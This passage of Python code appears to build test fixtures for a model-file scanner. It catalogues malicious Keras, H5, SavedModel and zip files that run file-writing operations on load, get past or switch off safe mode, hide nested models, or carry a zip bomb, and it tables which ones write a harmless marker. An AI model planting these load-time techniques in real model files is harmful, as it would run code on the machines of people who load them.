                                            ".keras: layer module keras.layers, class MyEvil (not Keras's)"),
    "keras_nested_model_hiding": (keras_nested_model_hiding,
                                  ".keras: functional model in a Sequential in a model; innermost slicing "
                                  "io.write_file"),
    "keras_zip_extra_member_bomb": (keras_zip_extra_member_bomb,
                                    ".keras: extra member of 3 GB of zeros (about 3 MB on disk)"),
    "savedmodel_folder_tfop_io": (savedmodel_folder_tfop_io,
                                  "SavedModel folder: keras_metadata.pb TFOpLambda io.write_file on a constant path"),
    "zip_of_h5_slicing": (zip_of_h5_slicing, ".zip holding the .h5 SlicingOpLambda io.write_file"),
    "zip_of_keras_module_import": (zip_of_keras_module_import, ".zip holding the .keras module-import Lambda"),
    "keras_tfop_py_function": (keras_tfop_py_function, ".keras: TFOpLambda numpy_function on the marker path"),
    "keras_tfop_summary_writer": (keras_tfop_summary_writer,
                                  ".keras: TFOpLambda summary.create_file_writer on the marker path"),
    "keras_tfop_allowed_op_string_arg": (keras_tfop_allowed_op_string_arg,
                                         ".keras: allowed TFOpLambda math.multiply with a string constant path"),
    "keras_instance_method_io": (keras_instance_method_io,
                                 ".keras: InstanceMethod calling an attribute of a constant path"),
    "keras_activation_module": (keras_activation_module,
                                ".keras: Dense activation / initializer naming non-Keras modules"),
    "keras_inputlayer_typespec_module": (keras_inputlayer_typespec_module,
                                         ".keras: InputLayer type_spec naming a Lambda class by module"),
}

# What naive loading does (see each docstring): True = marker written by load_model's defaults (safe mode on
# for .keras), "unsafe" = only with safe_mode=False, "next" = loading the file turns safe mode off for its
# thread, and loading the "<stem>.next.keras" the maker wrote beside it then writes the marker,
# False = no marker (tf_keras fails, or loads without writing).
NAIVE = {
    "savedmodel_graph_code_as_dense": "call",
    "savedmodel_plain_write_file": "call",
    "keras_slicing_write_file": True,
    "h5_slicing_write_file": True,
    "savedmodel_zip_lambda_compact_json": True,
    "keras_lambda_bytecode": "unsafe",
    "keras_module_import": True,
    "keras_safe_mode_off": "unsafe",
    "h5_lambda": True,
    "h5_safe_mode_off_persists": "next",
    "keras_classmethod_io": True,
    "keras_unknown_class_in_keras_module": False,
    "keras_nested_model_hiding": True,
    "keras_zip_extra_member_bomb": False,
    "savedmodel_folder_tfop_io": True,
    "zip_of_h5_slicing": True,
    "zip_of_keras_module_import": True,
    "keras_tfop_py_function": False,
    "keras_tfop_summary_writer": True,
    "keras_tfop_allowed_op_string_arg": False,
    "keras_instance_method_io": False,
    "keras_activation_module": False,
    "keras_inputlayer_typespec_module": False,
}


def make_all(folder, marker_dir):
    """Make every catalogue entry in ``folder``; return ``{name: (model path, marker path)}``.

    Each entry gets its own marker, ``marker_dir / "<name>.marker"`` (absolute; ``marker_dir`` must be
    outside ``folder``). No marker exists after making. Besides the returned paths, ``folder`` also holds
    ``h5_safe_mode_off_persists.next.keras`` (see that maker).
    """
    folder, marker_dir = Path(folder), Path(marker_dir).resolve()
    folder.mkdir(parents=True, exist_ok=True)
    made = {}
    for name, (maker, _) in CATALOGUE.items():
        marker = marker_dir / f"{name}.marker"
        made[name] = (maker(folder, marker), marker)
    return made


def clear_markers(made):
    """Remove every marker of ``make_all``'s result (a file, or a folder for the summary writer)."""
    for _, marker in made.values():
        if marker.is_dir():
            shutil.rmtree(marker)
        elif marker.exists():
            marker.unlink()
